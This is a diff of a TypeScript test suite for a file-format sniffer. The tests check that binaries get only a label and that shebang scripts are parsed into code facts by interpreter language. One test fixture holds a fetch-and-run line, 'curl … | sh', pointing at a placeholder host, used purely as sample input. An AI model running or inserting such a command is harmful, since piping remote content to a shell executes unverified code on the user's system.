@@ -66,12 +66,28 @@ describe("sniffers: real executables", () => {
     expect(await labels(text("MZ and \x7fELF and #!/bin/sh are magics\n"), "notes.txt")).toEqual([]);
   });
 
-  it("parse adds nothing but the label: no facts, no children, never inconclusive", async () => {
-    for (const bytes of [tinyElf(), buildPe(), buildFat(), text("#!/bin/sh\n")]) {
+  it("parse of a binary adds nothing but the label: no facts, no children, never inconclusive", async () => {
+    for (const bytes of [tinyElf(), buildPe(), buildFat()]) {
       const parsed = await parseWith(plugin.formats, "payload", bytes);
       expect(parsed.formats).toHaveLength(1);
       expect([parsed.facts, parsed.children, parsed.inconclusive]).toEqual([[], [], []]);
     }
+  });
+
+  it("a script's text is one code fact in its interpreter's language", async () => {
+    const cases: [string, string][] = [
+      ["#!/bin/sh\ncurl -s https://example.org/x | sh\n", "shell"],
+      ["#!/usr/bin/env python3\nimport os\n", "python"],
+      ["#!/usr/bin/env node\nrequire('fs')\n", "javascript"],
+      ["#!/usr/bin/perl\nprint 1;\n", "unknown"],
+    ];
+    for (const [script, language] of cases) {
+      const parsed = await parseWith(plugin.formats, "run.sh", text(script));
+      expect(parsed.facts).toEqual([{ kind: "code", language, text: script, location: { path: "run.sh" } }]);
+      expect([parsed.children, parsed.inconclusive]).toEqual([[], []]);
+    }
+    const binaryTail = new Uint8Array([...text("#!/bin/sh\n"), 0xff, 0xfe, 0x00]);
+    expect((await parseWith(plugin.formats, "run.sh", binaryTail)).facts).toEqual([]);
   });
 
   it("each accepted header starts with one of its handler's magic prefixes (the identify contract)", () => {
